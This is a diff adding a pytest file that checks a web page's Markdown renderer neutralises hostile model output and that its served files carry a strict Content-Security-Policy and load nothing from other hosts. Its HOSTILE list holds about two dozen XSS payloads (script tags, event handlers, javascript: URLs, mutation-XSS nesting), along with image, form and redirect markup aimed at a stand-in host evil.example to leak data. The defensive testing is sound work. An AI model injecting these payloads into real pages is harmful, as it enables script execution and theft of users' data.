@@ -1,0 +1,150 @@
+"""The page's files and its Markdown: nothing a model writes becomes code, nothing comes from another host."""
+
+import re
+from html.parser import HTMLParser
+
+import pytest
+
+from headrace.server.page import files, markdown
+from tests.server.harness import Running
+
+# What a hostile model might write; each would run, load or submit something on a page that let it.
+HOSTILE = [
+    "<script>window.hacked = 1</script>",
+    "<img src=x onerror='window.hacked = 1'>",
+    "<svg onload='window.hacked = 1'><script>window.hacked = 1</script></svg>",
+    "<iframe src='javascript:parent.hacked = 1'></iframe>",
+    "<a href='javascript:window.hacked = 1'>here</a>",
+    "[here](javascript:window.hacked=1)",
+    "[here](JaVaScRiPt:window.hacked=1)",
+    "[here](&#106;avascript:window.hacked=1)",
+    "[here](data:text/html,<script>opener.hacked=1</script>)",
+    "<javascript:window.hacked=1>",
+    "![x](http://evil.example/leak?prompt=secret)",
+    "![x](javascript:window.hacked=1)",
+    "[![x](http://evil.example/leak)](http://evil.example)",
+    '[x](http://a.example "title\\" onmouseover=\\"window.hacked=1")',
+    "```html\n<script>window.hacked = 1</script>\n```",
+    "```\"><img/src=x/onerror=window.hacked=1>\nx\n```",
+    "```python\n# </code></pre><script>window.hacked = 1</script>\n```",
+    "`<img src=x onerror=window.hacked=1>`",
+    "| <b onclick=window.hacked=1> |\n|-|\n| <style>*{display:none}</style> |",
+    "<style>@import 'http://evil.example/x.css'; * { display: none }</style>",
+    "<form action='http://evil.example'><input name=key><button>go</button></form>",
+    "<math><mtext><table><mglyph><style><!--</style><img src onerror=window.hacked=1>",
+    "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'>",
+    "<base href='http://evil.example/'><meta http-equiv=refresh content='0;url=http://evil.example'>",
+    "<div id=prompt style='position:fixed;inset:0'>cover</div>",
+    "&lt;script&gt;window.hacked = 1&lt;/script&gt;",
+]  # fmt: skip
+
+
+class Harm(HTMLParser):
+    """Collects what could run, load, submit, or cover the page."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.found: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag not in markdown.TAGS:
+            self.found.append(tag)
+        for name, value in attrs:
+            if name not in ("href", "title", "class", "rel", "start"):
+                self.found.append(f"{tag} {name}")
+            if name == "href" and not re.match(r"(https?:|mailto:)", value or "", re.IGNORECASE):
+                self.found.append(f"{tag} {name}={value}")
+
+
+def harm(html: str) -> list[str]:
+    parser = Harm()
+    parser.feed(html)
+    parser.close()
+    return parser.found
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_hostile_text_becomes_harmless_html(text: str) -> None:
+    assert harm(markdown.render(text)) == []
+    assert harm(markdown.clean(text)) == []  # the second lock alone
+
+
+def test_without_the_locks_it_would_be_harmful() -> None:
+    open_parser = markdown.MarkdownIt("commonmark", {"html": True})
+    open_parser.validateLink = lambda url: True  # type: ignore[method-assign]
+    assert sum(bool(harm(open_parser.render(text))) for text in HOSTILE) > 15
+
+
+def test_markdown_is_rendered() -> None:
+    html = markdown.render(
+        "# Mill\n\nA *wheel*, **water**, `race`, ~~dry~~ and [a link](https://a.example).\n\n1. one\n\n|a|\n|-|\n|b|"
+    )
+    for part in (
+        "<h1>Mill</h1>",
+        "<em>wheel</em>",
+        "<strong>water</strong>",
+        "<code>race</code>",
+        "<s>dry</s>",
+        "<ol>",
+        "<td>b</td>",
+    ):
+        assert part in html
+    assert '<a href="https://a.example" rel="noopener noreferrer nofollow">a link</a>' in html
+
+
+def test_code_is_coloured_and_text_that_is_no_language_is_not() -> None:
+    assert '<code class="language-python"><span class="k">def</span>' in markdown.render("```python\ndef f(): pass\n```")
+    assert markdown.render("```no-such\n<b>\n```") == '<pre><code class="language-no-such">&lt;b&gt;\n</code></pre>\n'
+    assert "<span" not in markdown.render(f"```python\n{'x = 1; ' * markdown.MAX_CODE}\n```")
+    assert ".k { color: light-dark(#" in markdown.code_css()
+
+
+def test_long_texts_are_escaped_and_not_parsed() -> None:
+    assert markdown.render("*<b>*" * markdown.MAX_TEXT).startswith("<p>*&lt;b&gt;**&lt;b&gt;*")
+
+
+def test_every_file_is_served_without_a_key_and_with_the_policy(tiny: object) -> None:
+    with Running("no-model", begin=False, key="a-long-enough-key") as locked:
+        for path, name in files.PATHS.items():
+            answer = locked.http.get(path, headers={"Authorization": ""})
+            assert answer.status_code == 200, path
+            assert answer.headers["content-type"] == files.KINDS[name.rpartition(".")[2]]
+            policy = answer.headers["content-security-policy"]
+            assert "default-src 'none'; script-src 'self'; style-src 'self'" in policy
+            assert "unsafe" not in policy
+            again = locked.http.get(path, headers={"Authorization": "", "If-None-Match": answer.headers["etag"]})
+            assert again.status_code == 304
+            assert again.content == b""
+        assert locked.http.get("/page/../app.py", headers={"Authorization": ""}).status_code == 401
+        assert locked.http.get("/page/files.py").status_code == 404
+        assert locked.http.post("/page/render", json={"text": "*a*"}, headers={"Authorization": ""}).status_code == 401
+        assert locked.http.post("/page/render", json={"text": "*a*"}).json() == {"html": "<p><em>a</em></p>\n"}
+        assert locked.http.post("/page/render", json={"text": "a" * (markdown.MAX_TEXT + 1)}).status_code == 400
+
+
+def test_nothing_is_inline_and_nothing_comes_from_another_host() -> None:
+    texts = {path: file.data.decode() for path, file in files.load().items()}
+    assert set(files.STATIC) == {path.name for path in (files.files(files.__package__) / "static").iterdir()}
+    page = texts["/"]
+    assert re.findall(r"<script(?![^>]* src=\"/page/)", page) == []
+    assert re.findall(r"<style|\son\w+=|\sstyle=", page) == []
+    for path, text in texts.items():
+        away = [url for url in re.findall(r"(?:https?:)?//[\w.-]+\.\w+", text) if "www.w3.org" not in url]
+        assert away == [], path
+    # One place alone makes elements of HTML.
+    sinks = [
+        path
+        for path, text in texts.items()
+        if re.search(r"innerHTML|outerHTML\s*=|insertAdjacentHTML|document\.write|eval\(", text)
+    ]
+    assert sinks == ["/page/dom.js"]
+
+
+def test_both_languages_say_the_same_things() -> None:
+    text = files.load()["/page/texts.js"].data.decode()
+    english, chinese = (re.search(rf"const {name} = {{(.*?)\n}};", text, re.DOTALL) for name in ("EN", "ZH"))
+    assert english is not None
+    assert chinese is not None
+    names = [re.findall(r"(?:^|[,\s])(\w+): (?=[\"\[])", found[1]) for found in (english, chinese)]
+    assert names[0] == names[1]
+    assert len(names[0]) > 80
